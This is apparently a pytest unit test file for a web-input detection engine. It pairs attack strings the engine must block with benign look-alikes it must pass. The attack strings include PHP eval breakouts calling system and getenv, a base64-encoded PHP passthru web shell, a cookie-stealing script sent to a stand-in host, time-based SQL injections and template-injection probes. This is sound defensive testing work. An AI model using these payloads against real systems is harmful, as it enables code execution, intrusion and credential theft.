"""Unit: shapes fresh14 missed in PHP code injection, a backtick-quoted SQL name and template probes, and the benign
values of the same look each rule must let through: a breakout from PHP code that ``eval`` runs (a quote or ``;``,
a PHP call, a comment cutting the rest off); a ``data:`` URL whose base64 payload is PHP, script or a command line;
a closed backtick name followed by a time function and a comment; FreeMarker's ``<# n*n>`` and a delimiter printed by
a template expression around arithmetic (``{{'{{'}}n*n{{'}}'}}``). Every case goes through the whole engine
(decoders, prefilter, analysers), with other values than the corpus uses."""

from __future__ import annotations

import base64

import pytest

from bastion.detection import Context, Engine

BODY = Context("body", "comment")
QUERY = Context("query", "q")
HEADER = Context("header", "x-note")
COOKIE = Context("cookie", "pref")
AVATAR = Context("body", "avatar")


def _data(media: str, text: str) -> str:
    return f"data:{media};base64," + base64.b64encode(text.encode()).decode()


ATTACKS: dict[str, tuple[str, Context, str]] = {
    # PHP eval breakout: close the string or statement, call, comment out the rest
    "php_quote_semicolon_exit_hash": ("';exit(sha1('probe-91'));#", BODY, "cmdi"),
    "php_double_quote_concat_die": ('".die(crc32("zz7"));//', QUERY, "cmdi"),
    "php_word_semicolon_print_r": ("x;print_r(getenv());//", HEADER, "cmdi"),
    "php_bare_semicolon_var_dump": (";var_dump(php_uname());#", COOKIE, "cmdi"),
    "php_single_quote_concat_md5": ("'.md5('k3');/*", BODY, "cmdi"),
    "php_silenced_system_call": ("';@system('hostname');//", QUERY, "cmdi"),
    "php_echo_construct": ('";echo "marker-55";#', BODY, "cmdi"),
    # data: URL whose base64 payload is code
    "data_uri_untyped_php": (_data("", "<?php print 'canary'; ?>"), QUERY, "cmdi"),
    "data_uri_text_plain_php": (_data("text/plain", "<?php passthru($_REQUEST['x']); ?>"), AVATAR, "cmdi"),
    "data_uri_short_echo_tag": (_data("text/plain", "<?= `uname -a` ?>"), BODY, "cmdi"),
    "data_uri_shell_line": (_data("text/plain", "ping -c 3 127.0.0.1; whoami"), AVATAR, "cmdi"),
    "data_uri_percent_encoded": ("data%3Atext%2Fplain%3Bbase64%2C" + base64.b64encode(b"<?php phpinfo(); ?>").decode()
                                 .replace("=", "%3D"), COOKIE, "cmdi"),
    "data_uri_script": (_data("application/octet-stream", "<script>fetch('//x.test/'+document.cookie)</script>"),
                        BODY, "xss"),
    # backtick-quoted name closed, a time function, a comment
    "backtick_comma_sleep_hash": ("price`,sleep(4)#", QUERY, "sqli"),
    "backtick_and_benchmark_dashes": ("title` and benchmark(5000000,sha1(2))-- -", BODY, "sqli"),
    "backtick_paren_or_pg_sleep": ("id`) or pg_sleep(6)/*", QUERY, "sqli"),
    # FreeMarker directive brackets around a product
    "freemarker_angle_product": ("<# 321*987>", QUERY, "ssti"),
    "freemarker_square_product": ("[#=77*11]", BODY, "ssti"),
    "freemarker_if_product": ("<#if 12*12==144>ok</#if>", BODY, "ssti"),
    "freemarker_huge_range": ("<#list 1..50000000 as n>${n}</#list>", BODY, "ssti"),
    # a delimiter printed by a template expression, the arithmetic between rendered by a second pass
    "nested_escape_double_quotes": ('#{{"{{"}}58*31{{"}}"}}', QUERY, "ssti"),
    "nested_escape_single_quotes_spaced": ("{{ '{{' }} 19*23 {{ '}}' }}", BODY, "ssti"),
    "nested_escape_statement_delimiters": ("{{'{%'}} print 6*7 {{'%}'}}", HEADER, "ssti"),
}

BENIGN: dict[str, tuple[str, Context]] = {
    # PHP and JS snippets in questions, comments and markdown
    "question_quoting_die": ("My script stops at die('error'); how do I log the reason instead?", BODY),
    "snippet_exit_with_comment": ("exit(0); // done", BODY),
    "snippet_assignment_then_die": ("$conn = connect(); if (!$conn) die('db down'); // retry later", BODY),
    "markdown_php_block": ("```php\nif ($err) {\n    die('error');\n}\n```", BODY),
    "js_console_log_comment": ("console.log(x); // prints 3", BODY),
    "css_comment": ("color: red; /* brand */", BODY),
    "prose_semicolon_print": ("Draft ready; print it before the meeting.", BODY),
    "perl_style_question": ("why does print_r show Array(); here?", QUERY),
    # data: URLs of images, fonts and plain text
    "data_uri_png": ("data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGA"
                     "hKmMIQAAAABJRU5ErkJggg==", AVATAR),
    "data_uri_jpeg": ("data:image/jpeg;base64,/9j/4AAQSkZJRgABAQEASABIAAD/2wBDAAgGBgcGBQgHBwcJCQgKDBQNDAsLDBkSEw8U",
                      AVATAR),
    "data_uri_text_note": (_data("text/plain;charset=utf-8", "Meeting notes: ship on Friday, review on Monday."),
                           BODY),
    "data_uri_json": (_data("application/json", '{"sku": "A-17", "qty": 3}'), BODY),
    "data_uri_csv": (_data("text/csv", "name,qty\nwidget,4\ngadget,9\n"), BODY),
    "prose_mentioning_data_uri": ("Paste a data:image/png;base64, URL into the avatar field", BODY),
    # backticks in markdown
    "markdown_sleep_span": ("Use `sleep(5)` between retries", BODY),
    "markdown_span_alone": ("`sleep(2)`", QUERY),
    "markdown_two_spans_with_comma": ("Call `init()`, then `sleep(1)` # once", BODY),
    "mysql_quoted_column_list": ("`id`, `name`, `created_at`", QUERY),
    "markdown_hash_heading_after_span": ("`benchmark` results\n# Summary", BODY),
    # FreeMarker and other templates in documentation
    "freemarker_list_docs": ("Loop with <#list items as item>${item.name}</#list>", BODY),
    "freemarker_if_docs": ("<#if user.admin>Admin</#if>", BODY),
    "freemarker_small_range": ("<#list 1..10 as i>${i}</#list>", BODY),
    "jinja_literal_braces_docs": ("Write {{ '{{' }} name {{ '}}' }} to print the braces", BODY),
    "jinja_escape_alone": ("{{ '{{' }}", QUERY),
    # prose with products
    "prose_product": ("the area is a*b where a=3 and b=4, so 3*4", BODY),
    "markdown_multiplication": ("<b>2*3</b> = 6", BODY),
    "hash_then_number": ("# 12*12 is 144", BODY),
}


@pytest.mark.parametrize(("value", "ctx", "attack"), ATTACKS.values(), ids=ATTACKS.keys())
def test_fresh14_php_shape_is_blocked(engine: Engine, value: str, ctx: Context, attack: str) -> None:
    found = engine.inspect(value, ctx)
    assert found is not None, value
    assert found.rule.attack == attack, (value, found.rule.attack)


@pytest.mark.parametrize(("value", "ctx", "attack"), ATTACKS.values(), ids=ATTACKS.keys())
def test_fresh14_php_shape_is_blocked_in_a_batch(engine: Engine, value: str, ctx: Context, attack: str) -> None:
    """The batch path (one prefilter pass over many fields) reaches the same verdict."""
    fields = [("/name", "Alice", BODY), ("/x", value, ctx), ("/qty", "2", BODY)]
    found = engine.first(fields)
    assert found is not None and found[0] == 1, value


@pytest.mark.parametrize(("value", "ctx"), BENIGN.values(), ids=BENIGN.keys())
def test_fresh14_php_benign_look_alike_passes(engine: Engine, value: str, ctx: Context) -> None:
    assert engine.inspect(value, ctx) is None, value
    assert engine.first([("/name", "Alice", BODY), ("/x", value, ctx)]) is None, value
